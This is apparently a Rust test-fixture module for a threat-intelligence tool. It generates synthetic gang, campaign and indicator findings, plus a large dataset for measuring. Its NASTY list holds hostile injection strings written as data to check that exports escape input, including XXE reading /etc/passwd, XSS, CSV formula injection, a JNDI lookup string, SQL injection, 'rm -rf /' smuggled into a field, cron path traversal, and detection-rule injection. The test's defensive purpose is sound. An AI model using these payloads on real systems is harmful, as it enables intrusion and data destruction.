//! Findings in which every text is hostile to some consumer: written by us, for the readers of the exports.

use std::collections::BTreeMap;

use ringleader_model::findings::*;
use ringleader_model::{Context, IndicatorKind, Timestamp};

/// What an attacker would like an export to run, load, end, or mean.
pub const NASTY: &[&str] = &[
    "",
    " ",
    "\"",
    "'",
    "\\",
    "a\\",
    "\\\"",
    "`",
    "]]>",
    "--><x>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;&#0;&amp;",
    "</script><script>alert(1)</script>",
    "a\nb\r\nc",
    "\u{0}\u{1}\u{1b}[2J\u{7f}\u{9b}31m\u{85}",
    "txt\u{202e}exe\u{2066}\u{feff}\u{fffe}\u{ffff}",
    "\u{e0001}\u{1f600}\u{10ffff}",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "${jndi:ldap://198.51.100.66/a}",
    "$(id) `id` %s %n {0} {{7*7}}",
    "x\"; sid:1; rev:9;) alert ip any any -> any any (msg:\"",
    "x\"; content:\"|zz|",
    "|41 42|;:()[]{}",
    "x\" } table inet evil { chain c { type filter hook input priority 0; policy drop; } }",
    "add ringleader4 0.0.0.0/0",
    "x\n0.0.0.0/0",
    "---\n- evil: [*a, &b, !!python/object/apply:os.system]",
    "title: x\ndetection: {}",
    "* ? \\* \\? *?*",
    "\" ascii\n condition: true }\nrule evil { condition: true",
    "} /* // */ */",
    "\"]; evil -> \"x\" [URL=\"javascript:alert(1)\"",
    "\\N\\G\\E\\L &lt;b&gt; <b>x</b>",
    "' OR '1'='1' --",
    "\" onload=\"alert(1)",
    "$HOME_NET any -> !$EXTERNAL_NET",
    "tlp:clear\" name=\"x",
    "CVE-2020-1; rm -rf /",
    "../../../../etc/cron.d/evil",
    "NULL",
    "true",
    "0x41",
];

/// A value of each kind with hostile text in it, and some that stay what they claim to be.
fn values(kind: IndicatorKind, nasty: &str) -> Vec<String> {
    use IndicatorKind::*;
    let mut out = vec![nasty.to_owned()];
    match kind {
        Url | Paste => {
            out.extend([
                format!("http://evil.example/{nasty}"),
                format!("http://{nasty}.example/x"),
                format!("http://198.51.100.7:8080/a?b={nasty}#{nasty}"),
            ]);
        }
        Domain => out.push(format!("{nasty}.evil.example")),
        Ip => out.push(format!("198.51.100.7{nasty}")),
        IpPort => out.extend([format!("198.51.100.7:80{nasty}"), format!("[2001:db8::7]:{nasty}")]),
        Hash => out.push(format!("d41d8cd98f00b204e9800998ecf8427e{nasty}")),
        FilePath => {
            out.extend([format!("/tmp/.x/{nasty}"), format!("C:\\Windows\\Temp\\{nasty}"), format!("{nasty}/")])
        }
        SshKey => out.push(format!("AAAAB3NzaC1yc2EAAAADAQABAAABAQC{nasty}")),
        Wallet => out.push(format!("4{}{nasty}", "A".repeat(94))),
        Pool => out.push(format!("pool.evil.example:3333{nasty}")),
        Email => out.push(format!("{nasty}@evil.example")),
        UserAgent | Cron | Account | Image => out.push(format!("agent-{nasty}")),
    }
    out
}

/// A gang for each, named, run and signed by it.
pub fn nasty() -> Findings {
    let mut findings = Findings::default();
    let long = "\u{202e}\"';A".repeat(500);
    let all = NASTY.iter().map(|it| (*it).to_owned()).chain([long]);
    for (nth, nasty) in all.enumerate() {
        let text: Text = nasty.as_str().into();
        let mut indicators: BTreeMap<Text, Vec<GangIndicator>> = BTreeMap::new();
        for kind in IndicatorKind::ALL {
            let list = values(*kind, &nasty).into_iter().map(|value| GangIndicator {
                value: value.into(),
                strength: Strength::Strong,
                contexts: vec![Context::Downloaded, Context::Executed],
                hosts: 3,
            });
            indicators.insert(kind.name().into(), list.collect());
        }
        indicators.entry("ip".into()).or_default().push(GangIndicator {
            value: format!("203.0.113.{nth}").into(),
            strength: Strength::Strong,
            contexts: vec![Context::Connected],
            hosts: 2,
        });
        let id: Text = format!("{nth:02}{nasty}").into();
        let campaign: Text = format!("c{nth:02}{nasty}").into();
        let signature: Vec<SignaturePart> = ["literal", "file_path", "url", "cron", "structure"]
            .iter()
            .map(|kind| SignaturePart { kind: (*kind).into(), value: format!("{nasty} of {kind}").into() })
            .collect();
        findings.campaigns.push(Campaign {
            campaign_id: campaign.clone(),
            gang_id: Some(id.clone()),
            signature,
            nodes: vec![
                Node { node_id: text.clone(), template: text.clone(), sample: Some(text.clone()), ..Node::default() },
                Node {
                    node_id: format!("n{nasty}").into(),
                    parent: Some(text.clone()),
                    template: format!("sh -c <url> {nasty}").into(),
                    behaviours: vec![text.clone()],
                    ..Node::default()
                },
            ],
            stopped: Vec::new(),
        });
        findings.gangs.push(Gang {
            gang_id: id,
            name: nasty.clone(),
            known_as: vec![nasty.clone()],
            family: Some(nasty.clone()),
            confidence: Permille::new(873),
            who: Who {
                indicators,
                hosts: vec![format!("web-{nth:03}{nasty}").into()],
                first_seen: Some(Timestamp(1_572_825_600_000_000)),
                last_seen: Some(Timestamp(1_572_912_000_000_000)),
                ..Who::default()
            },
            how: vec![How {
                method: text.clone(),
                class: MethodClass::Exploit,
                cve: Some(text.clone()),
                confidence: Permille::new(900),
                novelty: Novelty::New,
                hosts: 1,
                succeeded_hosts: 0,
                first_seen: None,
                evidence_ids: Vec::new(),
            }],
            what: What {
                behaviours: vec![GangBehaviour {
                    id: text.clone(),
                    technique: Some(text),
                    hosts: 1,
                    evidence_ids: Vec::new(),
                }],
                network_roles: Vec::new(),
            },
            campaigns: vec![campaign],
            ..Gang::default()
        });
    }
    findings
}

/// As large as a cloud's quarter: for measuring.
pub fn large(gangs: usize, indicators: usize) -> Findings {
    let mut findings = Findings::default();
    let each = indicators / gangs.max(1);
    for gang in 0..gangs {
        let id: Text = format!("{:032x}", ringleader_model::hash::hash128(&gang.to_le_bytes(), 3)).into();
        let campaign: Text = format!("{:032x}", ringleader_model::hash::hash128(&gang.to_le_bytes(), 4)).into();
        let mut lists: BTreeMap<Text, Vec<GangIndicator>> = BTreeMap::new();
        for nth in 0..each {
            let n = (gang * each + nth) as u128;
            let random = ringleader_model::hash::hash128(&n.to_le_bytes(), 5);
            let (kind, value) = match nth % 10 {
                0..=2 => ("url", format!("http://{:x}.example/{:x}/x.sh", random >> 96, random as u64)),
                3 | 4 => ("domain", format!("{:x}.example", random >> 90)),
                5 => (
                    "ip",
                    format!(
                        "{}.{}.{}.{}",
                        60 + (random >> 120) as u8 % 60,
                        (random >> 112) as u8,
                        (random >> 104) as u8,
                        (random >> 96) as u8
                    ),
                ),
                6 => (
                    "ip_port",
                    format!(
                        "{}.{}.{}.{}:8080",
                        60 + (random >> 120) as u8 % 60,
                        (random >> 112) as u8,
                        (random >> 104) as u8,
                        (random >> 96) as u8
                    ),
                ),
                7 => ("hash", format!("{random:032x}")),
                8 => ("file_path", format!("/tmp/.{:x}/x", random as u64)),
                _ => ("wallet", format!("4{random:032x}{random:032x}{:030x}", random >> 8)),
            };
            let value: Text = value.into();
            let kind_of = IndicatorKind::from_name(kind).expect("a kind");
            lists.entry(kind.into()).or_default().push(GangIndicator {
                value: value.clone(),
                strength: [Strength::Strong, Strength::Medium, Strength::Weak][nth % 3],
                contexts: vec![Context::Downloaded],
                hosts: 4,
            });
            findings.indicators.push(IndicatorRow {
                indicator: value,
                kind: kind_of,
                strength: Strength::Strong,
                context: Context::Downloaded,
                gang_id: Some(id.clone()),
                campaign_id: campaign.clone(),
                hosts: 4,
                first_seen: Some(Timestamp(1_572_825_600_000_000 + n as i64)),
                last_seen: Some(Timestamp(1_572_912_000_000_000 + n as i64)),
            });
        }
        let hosts: Vec<Text> =
            (0..10).map(|it| format!("web-{:06}.corp.example", (gang * 7 + it) % 50_000).into()).collect();
        findings.campaigns.push(Campaign {
            campaign_id: campaign.clone(),
            gang_id: Some(id.clone()),
            signature: vec![SignaturePart { kind: "literal".into(), value: format!("--donate-{gang}").into() }],
            nodes: (0..20)
                .map(|n| Node {
                    node_id: format!("n{n}").into(),
                    parent: (n > 0).then(|| format!("n{}", n - 1).into()),
                    template: format!("sh -c curl <url> -o <path:tmp> && step {n} --donate-{gang}").into(),
                    hosts: 10,
                    ..Node::default()
                })
                .collect(),
            stopped: Vec::new(),
        });
        findings.gangs.push(Gang {
            gang_id: id,
            name: format!("gang {gang}"),
            confidence: Permille::new(900),
            who: Who {
                indicators: lists,
                hosts,
                first_seen: Some(Timestamp(1_572_825_600_000_000)),
                last_seen: Some(Timestamp(1_572_912_000_000_000)),
                ..Who::default()
            },
            campaigns: vec![campaign],
            ..Gang::default()
        });
    }
    findings.fleet = (0..50_000u32)
        .map(|it| FleetHost {
            host: format!("web-{it:06}.corp.example").into(),
            addresses: vec![format!("10.{}.{}.{}", it >> 16, it >> 8 & 255, it & 255).into()],
        })
        .collect();
    findings
}
